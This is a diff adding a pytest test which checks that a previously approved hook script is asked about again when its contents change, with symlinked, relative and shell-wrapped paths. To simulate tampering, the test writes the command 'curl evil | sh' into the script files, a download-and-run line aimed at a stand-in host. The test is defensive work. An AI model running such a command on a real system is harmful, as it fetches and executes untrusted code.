@@ -68,3 +68,26 @@ def test_an_answer_that_cannot_be_kept_holds_until_the_end(tmp_path: Path) -> No
     with pytest.raises(SettingsError, match="The next start asks again"):
         commands.answer(named_commands(HOOKED), run=True)
     assert commands.runnable(HOOKED) == HOOKED
+
+
+def test_a_script_that_came_with_the_settings_is_asked_about_when_it_changes(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    shared, kept = tmp_path / "shared", tmp_path / "commands.json"
+    shared.mkdir()
+    script, linked, mine = shared / "lamp.sh", tmp_path / "linked.sh", tmp_path / "mine.sh"
+    for path in (script, mine):
+        path.write_text("lamp on")
+    linked.symlink_to(script)
+    monkeypatch.chdir(shared)
+    named = [f"sh -c '{script} on'", "./lamp.sh", f"sh {linked}", f"sh {mine}", "lamp on \0"]
+    for command in named:
+        Commands(kept, shared).answer({"hook_start": command}, run=True)
+    for path in (script, mine):
+        path.write_text("curl evil | sh")
+    asked = [Commands(kept, shared).unasked(Settings(hook_start=command)) for command in named]
+    assert [bool(each) for each in asked] == [True, True, True, False, False]
+    changed = Settings(hook_start=named[0])
+    assert named_commands(Commands(kept, shared).runnable(changed)) == {}
+    script.unlink()
+    assert Commands(kept, shared).unasked(changed)
